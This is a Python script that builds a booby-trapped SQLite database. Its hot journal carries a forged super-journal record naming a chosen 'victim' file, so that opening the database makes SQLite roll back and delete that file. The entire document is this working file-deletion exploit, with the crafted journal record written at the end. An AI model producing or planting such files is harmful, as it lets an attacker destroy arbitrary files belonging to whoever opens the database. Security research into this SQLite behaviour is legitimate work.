"""Makes a database whose hot journal names another file as its super-journal: SQLite rolls the
journal back when it opens the database, and then deletes that file (pager_delsuper in pager.c).

Arguments: where the database is to be, and the file.
"""
import os
import shutil
import sqlite3
import struct
import sys
import tempfile

place, victim = sys.argv[1:]
MAGIC = bytes.fromhex("d9d505f920a163d7")
# The page that holds SQLite's locks stands in a journal for "what follows is a name".
LOCK_BYTE = 0x40000000

with tempfile.TemporaryDirectory() as folder:
    made = f"{folder}/made.db"
    database = sqlite3.connect(made, isolation_level=None)
    (page,) = database.execute("pragma page_size").fetchone()
    database.execute("pragma cache_size = 5")
    database.execute("create table drops (content text)")
    database.executemany("insert into drops values (?)", [("x" * 900,)] * 400)
    database.execute("begin immediate")
    # More than fits into memory, so that the journal is written out and the database changed.
    database.execute("update drops set content = content || 'y'")
    for end in ("", "-journal"):
        try:
            os.unlink(place + end)
        except FileNotFoundError:
            pass
        shutil.copyfile(made + end, place + end)
    database.execute("rollback")

name = os.fsencode(victim)
with open(f"{place}-journal", "ab") as journal:
    journal.write(struct.pack(">I", LOCK_BYTE // page + 1) + name)
    journal.write(struct.pack(">II", len(name), sum(name)) + MAGIC)
